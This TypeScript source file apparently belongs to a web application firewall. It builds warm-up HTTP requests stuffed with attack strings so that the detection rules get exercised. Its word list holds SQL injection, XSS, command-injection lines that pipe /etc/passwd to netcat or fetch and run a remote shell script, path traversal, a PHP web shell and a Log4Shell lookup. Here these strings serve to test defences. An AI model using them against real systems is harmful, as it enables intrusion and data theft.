/**
 * Generates requests of words that rules look for. They run the code that other requests of the warm-up leave cold:
 * automata that meet new text, and matches with their log data.
 */
import type { ByteString } from '#engine/bytes/byte-string.ts';
import { type Choose, chooser, request, type WarmRequest } from './warm-requests.ts';

const WORDS = [
  "1' or '1'='1' -- -",
  "' union all select null, version() from information_schema.tables where 1=1 /*",
  "1; drop table users; exec master..xp_cmdshell 'dir'",
  "admin' and sleep(5) #",
  '1 and extractvalue(1, concat(0x7e, (select @@version)))',
  '0x61 having count(*) > 1 order by 3',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=eval(atob(1))>',
  `<a href="javascript:window['al'+'ert'](1)">`,
  '<iframe srcdoc="&lt;b&gt;"><style>@import url(//a.example)</style>',
  'document.write(unescape("%3cb%3e"))',
  "{{constructor.constructor('return process')()}}",
  '; cat /etc/passwd | nc 192.0.2.1 4444',
  '$(curl http://host.example/x.sh|bash)',
  '`wget -O- host.example`; chmod 777 /tmp/a && ./a',
  '|| ping -n 3 127.0.0.1 & whoami',
  "/bin/ba$@sh -c 'id'; py\\thon -c import",
  'powershell -enc JABhAA== invoke-expression get-childitem',
  'cmd.exe /c dir c:\\windows\\system32',
  '../../../../etc/shadow',
  '..%2f..%5cboot.ini\0.jpg',
  'php://filter/convert.base64-encode/resource=index.php',
  'file:///proc/self/environ',
  'http://169.254.169.254/latest/meta-data/',
  "<?php system($_GET['c']); ?>",
  'eval(base64_decode("ZWNobyAx"))',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  `\${jndi:ldap://host.example/a}`,
  'java.lang.Runtime.getRuntime().exec',
  "require('child_process').execSync('ls')",
  '__proto__[a]=1&constructor.prototype',
  '(&(uid=*)(objectClass=*))',
  'Set-Cookie: a=b\r\nLocation: //host.example',
  '\xe2\x80\xa8\xff\x01 \t\v\f\n',
  'HTTP/1.1 200 OK\r\nContent-Length: 0',
  'multipart/form-data; boundary=a charset=utf-7',
  'bytes=0-,5-0,5-1,5-2',
  '%u0041%uff1cscript%uff1e &#x3c;b&#62; \\x3c \\u003c',
];

/** Texts of a request. */
const TEXTS = 6;
/**
 * With 400 instead of 60, the slowest first request of 128 KB takes 235 instead of 300 ms with the built-in rules, and 92
 * instead of 165 ms with the OWASP CRS. They take a second of CPU.
 */
export const ATTACK_REQUESTS = 400;
/** Kinds of requests, which alternate. */
const KINDS = 5;

/** Returns request number `index`, of a kilobyte. */
export function attackRequest(index: number): WarmRequest {
  const choose = chooser(index + 1);
  const texts = (length: number): readonly ByteString[] =>
    Array.from({ length: TEXTS }, () => textOf(choose, length));
  const post = (type: string, body: ByteString): WarmRequest =>
    request(choose, 'POST', '/', type, body);
  switch (index % KINDS) {
    case 0:
      return post(FORM, fieldsOf(texts(40)));
    case 1: {
      const cookies = texts(30).map((text) => `${cookieText(text)}=${cookieText(text)}`);
      return request(choose, 'GET', `/?${fieldsOf(texts(30))}`, '', '', cookies.join('; '));
    }
    case 2:
      return post('application/json', jsonOf(textOf(choose, 200), texts(40)));
    case 3:
      return post('text/xml', xmlOf(texts(40)));
    default:
      return post(`multipart/form-data; boundary=${BOUNDARY}`, partsOf(texts(40)));
  }
}

const FORM = 'application/x-www-form-urlencoded';
const BOUNDARY = 'warm-up';

function textOf(choose: Choose, length: number): ByteString {
  let text = '';
  while (text.length < length) text += `${choose(WORDS, ' ')} `;
  return text;
}

function fieldsOf(texts: readonly ByteString[]): ByteString {
  return texts
    .map((text) => `${percentEncoded(text.slice(0, 20))}=${percentEncoded(text)}`)
    .join('&');
}

function jsonOf(name: ByteString, texts: readonly ByteString[]): ByteString {
  const json = JSON.stringify({ [name]: texts, [name.slice(0, 30)]: { a: 1 } });
  return json.replace(/[\x80-\xff]/g, (char) => `\\u00${hex(char)}`);
}

function xmlOf(texts: readonly ByteString[]): ByteString {
  const elements = texts.map((text) => `<b c="${xmlText(text)}">${xmlText(text)}</b>`);
  return `<a>${elements.join('')}</a>`;
}

function partsOf(texts: readonly ByteString[]): ByteString {
  const parts = texts.map(
    (text, index) =>
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="a${index}"\r\n\r\n${text}\r\n`,
  );
  return `${parts.join('')}--${BOUNDARY}--\r\n`;
}

function percentEncoded(text: ByteString): ByteString {
  return text.replace(/[^A-Za-z0-9_.-]/g, (char) => `%${hex(char)}`);
}

/** Replaces bytes that a cookie cannot contain. */
function cookieText(text: ByteString): ByteString {
  return text.replace(/[^!#-+\--:<-[\]-~]/g, '_');
}

/** Escapes a text for XML, which cannot contain control bytes other than blanks. */
function xmlText(text: ByteString): ByteString {
  return text.replace(/[&<>"]|[^ -~]/g, (char) => (char < ' ' ? ' ' : `&#x${hex(char)};`));
}

function hex(char: string): string {
  return char.charCodeAt(0).toString(16).padStart(2, '0');
}
